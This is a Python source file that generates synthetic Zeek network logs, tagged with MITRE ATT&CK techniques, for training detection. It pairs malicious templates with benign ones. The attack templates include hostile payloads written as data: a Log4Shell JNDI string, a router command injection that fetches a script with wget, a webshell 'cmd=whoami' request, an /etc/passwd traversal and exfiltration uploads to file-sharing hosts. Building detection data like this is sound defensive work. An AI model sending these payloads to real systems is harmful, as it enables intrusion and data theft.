"""Zeek: connections and names, requests and certificates, logins and file shares, and its own notices."""

from generator.families.network.product_story import catalogue_in_parts
from generator.families.sensors.zeek_forms import FORMS

catalogue_in_parts("sensors/zeek-traffic", FORMS, r"""
C2@T1571 conn {lan} {wan}:<<4444|1337|8443|50050>> | proto=tcp ; duration={big}.{n} ; orig_bytes={big} ; resp_bytes={id} ; conn_state=S1 ; history=ShADad ; local_orig=true ; orig_pkts={big} ; resp_pkts={big}
PO# conn {lan} 10.0.{n}.{n2}:<<445|3389|22|5985>> | proto=tcp ; conn_state=<<S0|REJ>> ; history=S ; local_orig=true ; local_resp=true ; orig_pkts=1 ; resp_pkts=0
PO# conn {wan} {lan}:<<21|22|23|80|110|139|443|445|1433|3306|3389|5432|5900|8080|9200>> | proto=tcp ; conn_state=<<S0|REJ|RSTO>> ; history=S ; orig_pkts=1
DT# dns {lan} {lan2}:53 | proto=udp ; query={long}{hex}.t.{dga} ; qtype_name=<<TXT|NULL|CNAME>> ; rcode_name=NOERROR ; answers={long}
C2@T1568.002 dns {lan} {lan2}:53 | proto=udp ; query={dga} ; qtype_name=A ; rcode_name=NXDOMAIN ; rejected=false
+ dns {lan} {lan2}:53 | proto=udp ; query=qx{word}zk{word}.top ; qtype_name=A ; rcode_name=NXDOMAIN
+ dns {lan} {lan2}:53 | proto=udp ; query=vj{word}wq{word}.info ; qtype_name=A ; rcode_name=NXDOMAIN
+ dns {lan} {lan2}:53 | proto=udp ; query=zz{word}x{word}.biz ; qtype_name=A ; rcode_name=NXDOMAIN
EX@T1048 conn {lan} {wan}:<<22|443|21>> | proto=tcp ; service=<<ssh|ssl|ftp-data>> ; duration={big} ; orig_bytes={huge} ; resp_bytes={big} ; conn_state=SF ; local_orig=true ; orig_pkts={id}
CM@T1496.001 dns {lan} {lan2}:53 | proto=udp ; query=<<xmr|pool|gulf>>.<<moneroocean.stream|supportxmr.com|minexmr.com|nanopool.org>> ; qtype_name=A ; rcode_name=NOERROR ; answers={wan}
C2@T1090.003 conn {lan} {wan}:9001 | proto=tcp ; service=ssl ; duration={big} ; orig_bytes={big} ; resp_bytes={big} ; conn_state=SF ; history=ShADadfF
+ ssl {lan} {wan}:9001 | version=TLSv12 ; server_name=www.{word}.com ; established=true ; subject=CN=www.{word}.net ; issuer=CN=www.{word}.com ; validation_status=self signed certificate
""", r"""
NT conn {lan} {wan}:443 | proto=<<tcp|udp>> ; service=<<ssl|quic>> ; duration={n}.{n2} ; orig_bytes={big} ; resp_bytes={big} ; conn_state=<<SF|S1|RSTO|RSTR>> ; history=ShADadFf ; local_orig=true ; orig_pkts={n} ; resp_pkts={n2}
NT conn {lan} {lan2}:<<53|88|389|445|161|123>> | proto=<<udp|tcp>> ; service=<<dns|krb_tcp|gssapi,smb|ntp>> ; duration=0.0{n} ; orig_bytes={n} ; resp_bytes={many} ; conn_state=SF ; history=Dd ; local_orig=true ; local_resp=true
BN conn {noise} {lan}:<<23|445|8080|3389>> | proto=tcp ; conn_state=<<S0|REJ>> ; history=S ; local_resp=true ; orig_pkts=1 ; resp_pkts=0
NT dns {lan} {lan2}:53 | proto=udp ; trans_id={id} ; query={site} ; qclass_name=C_INTERNET ; qtype_name=<<A|AAAA|HTTPS>> ; rcode_name=NOERROR ; answers={wan} ; rejected=false
NS dns {lan} {lan2}:53 | proto=udp ; query=<<wpad.{domain}|_ldap._tcp.dc._msdcs.{domain}|{pc}.{domain}|lb._dns-sd._udp.{domain}|{word}>> ; qtype_name=<<A|SRV|PTR>> ; rcode_name=<<NXDOMAIN|NOERROR|SERVFAIL>>
NS dns {lan} {lan2}:53 | proto=udp ; query=<<{ext}|_dmarc.{ext}|default._domainkey.{ext}|{hex}.avqs.mcafee.com|{long}.{word}.cloudfront.net>> ; qtype_name=<<TXT|A>> ; rcode_name=NOERROR ; answers=<<v=spf1 include:{ext} -all|{wan}>>
BA conn {lan} {wan}:<<22|443|873>> | proto=tcp ; service=<<ssh|ssl>> ; duration={big} ; orig_bytes={huge} ; resp_bytes={big} ; conn_state=SF ; local_orig=true ; orig_pkts={id}
MO conn {lan} {lan2}:<<161|10050|9100|5666|443>> | proto=<<udp|tcp>> ; duration=0.{n} ; orig_bytes={n} ; resp_bytes={big} ; conn_state=SF ; local_orig=true ; local_resp=true
SC# conn {lan} 10.0.{n}.{n2}:<<161|9182|10050|80>> | proto=tcp ; conn_state=<<SF|REJ>> ; history=ShAr ; orig_pkts={n} ; resp_pkts={n} ; service=http
NS conn {lan} {wan}:<<5228|8883|5222|3478|1935|8443>> | proto=tcp ; service=ssl ; duration={big}.{n} ; orig_bytes={big} ; resp_bytes={big} ; conn_state=<<S1|SF>> ; history=ShADad ; local_orig=true
NS weird {any} {any2}:443 | name=<<data_before_established|possible_split_routing|bad_TCP_checksum|truncated_header|dns_unmatched_reply|above_hole_data_without_any_acks|unknown_protocol>> ; notice=false ; peer=zeek
""")

catalogue_in_parts("sensors/zeek-requests", FORMS, r"""
C2 http {lan} {wan}:80 | trans_depth=1 ; method=POST ; host={dga} ; uri=/<<gate.php|submit.php?id={id}|panel/{word}.php|api/v1/beacon>> ; user_agent=<<Mozilla/4.0 (compatible; MSIE 8.0)|{word}|Mozilla/5.0 (Windows NT 6.1) {word}>> ; request_body_len={big} ; response_body_len={n} ; status_code=200 ; status_msg=OK
MW http {lan} {wan}:80 | trans_depth=1 ; method=GET ; host={wan} ; uri=/{word}.<<exe|ps1|hta|bin>> ; user_agent=<<Microsoft BITS/7.8|WindowsPowerShell/5.1|certutil|curl/8.5.0>> ; response_body_len={big} ; status_code=200 ; resp_mime_types=application/x-dosexec
RX http {wan} {lan}:80 | trans_depth=1 ; method=GET ; host={wan2} ; uri=/?q=${jndi:ldap://{wan}/{word}} ; user_agent=${jndi:ldap://{wan}:1389/{word}} ; status_code=200 ; status_msg=OK
WS http {wan} {lan}:443 | trans_depth=1 ; method=POST ; host={domain} ; uri=/<<uploads|images|aspnet_client>>/{word}.<<php|aspx|jsp>>?cmd=whoami ; user_agent=python-requests/2.31.0 ; request_body_len={n} ; response_body_len={n2} ; status_code=200
CI http {wan} {lan}:80 | trans_depth=1 ; method=GET ; host={wan2} ; uri=/cgi-bin/luci/;stok=/locale?country=$(wget+http://{wan}/{word}.sh) ; user_agent=Go-http-client/1.1 ; status_code=200
C2@T1573 ssl {lan} {wan}:443 | version=TLSv12 ; cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384 ; server_name={dga} ; established=true ; subject=CN=<<Major Cobalt Strike,OU=AdvancedPenTesting,O=cobaltstrike|AsyncRAT Server|Quasar Server CA|multiplayer>> ; issuer=CN=<<AsyncRAT Server|Quasar Server CA|localhost>> ; validation_status=self signed certificate ; ja3=72a589da586844d7f0818ce684948eea
EX@T1567.002 http {lan} {wan}:80 | trans_depth=1 ; method=PUT ; host=<<transfer.sh|file.io|{dga}>> ; uri=/{file}.7z ; user_agent=<<rclone/v1.65|curl/8.5.0>> ; request_body_len={huge} ; status_code=200
PA http {wan} {lan}:80 | trans_depth=1 ; method=GET ; host={wan2} ; uri=/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd ; user_agent=curl/8.5.0 ; response_body_len={big} ; status_code=200
MW files {wan} {lan} | source=<<HTTP|SMTP>> ; analyzers=PE,SHA256 ; mime_type=application/x-dosexec ; filename={file}.<<pdf.exe|scr|jpg.exe>> ; seen_bytes={big} ; md5={long} ; sha256={sha}
+ notice {lan} {wan} | proto=tcp ; note=TeamCymruMalwareHashRegistry::Match ; msg=Malware Hash Registry Detection rate: {pct}%  Last seen: {date} ; sub=https://www.virustotal.com/gui/search/{long}
""", r"""
NT http {lan} {wan}:80 | trans_depth=1 ; method=GET ; host={site} ; uri=/<<connecttest.txt|msdownload/update/v3/static/trustedr/en/authrootstl.cab|generate_204|MFQwUjBQ|debian/dists/stable/InRelease|ncsi.txt>> ; user_agent=<<Microsoft NCSI|Microsoft-CryptoAPI/10.0|Debian APT-HTTP/1.3|{agent}>> ; response_body_len={big} ; status_code=<<200|304|204>>
NT http {lan} {lan2}:80 | trans_depth=1 ; method=<<GET|POST>> ; host={host} ; uri=/<<api/status|printer/jobs|login.php|index.html|ipp/print|soap/device>> ; user_agent={agent} ; request_body_len={n} ; response_body_len={big} ; status_code=<<200|302|401|404>>
UP http {lan} {wan}:80 | trans_depth=1 ; method=GET ; host={site} ; uri=/<<setup.exe|c/msdownload/update/software/{word}.exe|edgedl/chrome/{word}.crx3|dell/{word}.exe>> ; user_agent=<<Microsoft BITS/7.8|Windows-Update-Agent/10.0|Google Update/1.3>> ; response_body_len={big} ; status_code=206 ; resp_mime_types=application/x-dosexec
BN http {noise} {lan}:80 | trans_depth=1 ; method=GET ; host={wan2} ; uri=/<<favicon.ico|robots.txt|.well-known/security.txt|>> ; user_agent=<<Mozilla/5.0 (compatible; CensysInspect/1.1)|Mozilla/5.0 zgrab/0.x|Googlebot/2.1>> ; status_code=<<404|301|200>>
NT ssl {lan} {wan}:443 | version=<<TLSv13|TLSv12>> ; cipher=TLS_AES_128_GCM_SHA256 ; server_name={site} ; resumed=<<true|false>> ; established=true ; validation_status=ok
NS ssl {lan} {lan2}:<<443|8443|636|9443>> | version=TLSv12 ; server_name={host} ; established=true ; subject=CN=<<{host}|UniFi,O=Ubiquiti Inc.|Synology|ESXi,O=VMware|printer>> ; issuer=CN=<<{host}|UniFi|Synology Inc. CA|{company}-CA>> ; validation_status=self signed certificate
NS ssl {lan} {wan}:443 | version=TLSv12 ; server_name={ext} ; last_alert=<<unknown_ca|certificate_expired|handshake_failure>> ; established=false ; validation_status=<<certificate has expired|unable to get local issuer certificate>>
AE files {wan} {lan} | source=<<HTTP|SMTP|SMB>> ; analyzers=<<MD5,SHA1|X509|PE>> ; mime_type=<<application/pdf|application/zip|application/x-dosexec|text/html|image/jpeg>> ; filename={file}.<<pdf|zip|exe|html|jpg>> ; seen_bytes={big} ; md5={long} ; sha256={sha}
BA http {lan} {wan}:80 | trans_depth=1 ; method=PUT ; host={site} ; uri=/{file}.zip ; user_agent=<<aws-sdk-java/1.12|Veeam Backup|rclone/v1.65|{agent}>> ; request_body_len={huge} ; status_code=200
NS notice {lan} {wan}:443 | proto=tcp ; note=<<SSL::Invalid_Server_Cert|SSL::Certificate_Expired|CaptureLoss::Too_Much_Loss|PacketFilter::Dropped_Packets|Weird::Activity>> ; msg=<<SSL certificate validation failed with (self signed certificate)|Certificate CN={ext} expired at {date}|The capture loss script detected an estimated loss rate above {few}.{n}%>> ; actions=Notice::ACTION_LOG
""")

catalogue_in_parts("sensors/zeek-inside", FORMS, r"""
SB# ssh {wan} {lan}:22 | version=2 ; auth_success=false ; auth_attempts={few} ; direction=INBOUND ; client=SSH-2.0-<<libssh_0.9.6|Go|paramiko_2.12.0>> ; server=SSH-2.0-OpenSSH_9.2p1
BS notice {wan} {lan}:22 | proto=tcp ; note=SSH::Password_Guessing ; msg={wan} appears to be guessing SSH passwords (seen in {many} connections). ; sub=Sampled servers: {lan} ; src={wan} ; actions=Notice::ACTION_LOG
+ notice {wan} {lan}:22 | proto=tcp ; note=SSH::Login_By_Password_Guesser ; msg=Significant login of a host identified as a password guesser. ; src={wan} ; dst={lan}
PO notice {any} {lan}:0 | note=Scan::<<Port_Scan|Address_Scan>> ; msg={any} scanned at least {many} <<unique ports of host {lan}|unique hosts on port 445/tcp>> in 0m{n}s ; src={any} ; sub=<<local|remote>> ; actions=Notice::ACTION_LOG
LM@T1021.002,T1570 smb_files {lan} {lan2}:445 | action=SMB::FILE_OPEN ; path=\\{host}\ADMIN$ ; name=<<PSEXESVC.exe|{word}.exe|Temp\{word}.tmp|System32\{word}.dll>> ; size={big}
+ dce_rpc {lan} {lan2}:445 | rtt=0.00{n} ; named_pipe=\pipe\svcctl ; endpoint=svcctl ; operation=CreateServiceW
LM@T1053.005 dce_rpc {lan} {lan2}:445 | rtt=0.00{n} ; named_pipe=\pipe\atsvc ; endpoint=<<ITaskSchedulerService|atsvc>> ; operation=<<SchRpcRegisterTask|NetrJobAdd>>
KD@T1003.006 dce_rpc {lan} {lan2}:49667 | rtt=0.00{n} ; named_pipe=49667 ; endpoint=drsuapi ; operation=DRSGetNCChanges
KD# kerberos {lan} {lan2}:88 | request_type=TGS ; client={user}/{company} ; service=<<MSSQLSvc|HTTP|CIFS|svc>>/{word}.{domain} ; success=true ; cipher=rc4-hmac ; forwardable=true
PS# kerberos {lan} {lan2}:88 | request_type=AS ; client={guest}/{company} ; service=krbtgt/{company} ; success=false ; error_msg=KDC_ERR_<<PREAUTH_FAILED|C_PRINCIPAL_UNKNOWN>>
RW smb_files {lan} {lan2}:445 | action=SMB::FILE_RENAME ; path=\\{host}\{share} ; name={file}.xlsx.{crypt} ; prev_name={file}.xlsx ; size={big}
+ smb_files {lan} {lan2}:445 | action=SMB::FILE_RENAME ; path=\\{host}\{share} ; name=budget.docx.{crypt} ; prev_name=budget.docx
+ smb_files {lan} {lan2}:445 | action=SMB::FILE_WRITE ; path=\\{host}\{share} ; name=<<HOW_TO_DECRYPT|README_RESTORE|{crypt}-readme>>.txt ; size={many}
BF# rdp {wan} {lan}:3389 | cookie={adm} ; result=encrypted ; security_protocol=HYBRID ; client_build=RDP 10.{few} ; cert_count=0
""", r"""
LO ssh {lan} {lan2}:22 | version=2 ; auth_success=true ; auth_attempts={one} ; direction=<<INBOUND|INTERNAL>> ; client=SSH-2.0-<<OpenSSH_9.6|PuTTY_Release_0.80|OpenSSH_for_Windows_8.1|paramiko_2.12.0>> ; server=SSH-2.0-OpenSSH_9.2p1
MP. ssh {lan} {lan2}:22 | version=2 ; auth_success=false ; auth_attempts={few} ; client=SSH-2.0-OpenSSH_9.6 ; server=SSH-2.0-OpenSSH_9.2p1
BN. ssh {noise} {lan}:22 | version=2 ; auth_attempts=0 ; direction=INBOUND ; client=SSH-2.0-Go ; server=SSH-2.0-OpenSSH_9.2p1
NT smb_files {lan} {lan2}:445 | action=SMB::FILE_<<OPEN|READ|WRITE|RENAME|DELETE>> ; path=\\{host}\{share} ; name=<<{file}.docx|{file}.xlsx|~${file}.docx|Thumbs.db>> ; prev_name=<<{file}.tmp|{file}.docx>> ; size={big}
NT smb_files {lan} {lan2}:445 | action=SMB::FILE_RENAME ; path=\\{host}\{share} ; name={file}.xlsx.<<bak|old|gpg|7z|orig>> ; prev_name={file}.xlsx ; size={big}
NT smb_files {lan} {lan2}:445 | action=SMB::FILE_OPEN ; path=\\{host}\<<SYSVOL|NETLOGON|print$|IPC$>> ; name=<<{domain}\Policies\gpt.ini|logon.bat|x64\3\{word}.dll|lsarpc>> ; size={n}
NS dce_rpc {lan} {lan2}:<<445|135>> | rtt=0.00{n} ; named_pipe=\pipe\<<lsass|spoolss|srvsvc|netlogon|wkssvc>> ; endpoint=<<lsarpc|spoolss|srvsvc|netlogon|epmapper>> ; operation=<<LsarLookupNames3|RpcOpenPrinterEx|NetrShareEnum|NetrLogonSamLogonEx|ept_map|NetrWkstaGetInfo>>
AD dce_rpc {lan} {lan2}:445 | rtt=0.00{n} ; named_pipe=\pipe\svcctl ; endpoint=svcctl ; operation=<<OpenSCManagerW|QueryServiceStatus|EnumServicesStatusExW|StartServiceW>>
NS dce_rpc {lan} {lan2}:49667 | rtt=0.00{n} ; named_pipe=49667 ; endpoint=drsuapi ; operation=<<DRSBind|DRSCrackNames|DRSUnbind|DRSReplicaSync>>
NT kerberos {lan} {lan2}:88 | request_type=<<AS|TGS>> ; client=<<{user}|{pc}$>>/{company} ; service=<<krbtgt/{company}|cifs/{host}.{domain}|LDAP/{host}|HTTP/{host}>> ; success=true ; cipher=aes256-cts-hmac-sha1-96 ; forwardable=true ; renewable=true
MP. kerberos {lan} {lan2}:88 | request_type=AS ; client={user}/{company} ; service=krbtgt/{company} ; success=false ; error_msg=KDC_ERR_<<PREAUTH_REQUIRED|PREAUTH_FAILED|KEY_EXPIRED>>
LO rdp {lan} {lan2}:3389 | cookie={user} ; result=encrypted ; security_protocol=HYBRID ; client_build=RDP 10.{few} ; cert_count=0
SC notice {lan} {lan2}:0 | note=Scan::Port_Scan ; msg={lan} scanned at least {many} unique ports of host {lan2} in 0m{n}s ; src={lan} ; peer_descr=<<nessus|openvas|{host}>> ; sub=local ; actions=Notice::ACTION_NONE
NS notice {lan} {lan2}:22 | proto=tcp ; note=SSH::<<Interesting_Hostname_Login|Watched_Country_Login>> ; msg=<<Possible SSH login involving a local interesting hostname|Watched country login from {land}>> ; sub=<<mail.{domain}|ns.{domain}>> ; actions=Notice::ACTION_LOG
BA smb_files {lan} {lan2}:445 | action=SMB::FILE_WRITE ; path=\\{host}\Backup ; name=<<{word}.vbk|{word}.vhdx|{date}.bak>> ; size={huge}
""")
